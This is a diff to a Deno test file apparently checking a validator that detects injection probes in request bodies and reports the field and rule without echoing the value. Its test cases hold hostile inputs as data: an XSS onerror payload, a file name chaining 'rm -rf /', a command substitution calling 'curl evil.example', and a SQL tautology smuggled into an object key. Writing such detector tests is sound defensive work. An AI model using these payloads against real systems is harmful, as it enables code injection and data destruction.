@@ -38,7 +38,8 @@ Deno.test("probes are caught, naming the field and the rule, never the value", (
     [{ note: '<img src=x onerror="alert(1)">' }, "note", "xss-event-handler"],
     [{ file: "a.pdf; rm -rf /" }, "file", "command-chained"],
     [{ file: "$(curl evil.example)" }, "file", "command-substitution"],
-    [{ ["<script>"]: 1 }, "<script> (name)", "xss-script-tag"],
+    [{ ["<script>"]: 1 }, "body (a key)", "xss-script-tag"],
+    [{ items: [{ ["x' OR '1'='1"]: 1 }] }, "items[0] (a key)", "sql-tautology"],
   ];
   for (const [body, field, rule] of cases) {
     assertEquals(inspect(none, body, ALL), { field, rule });
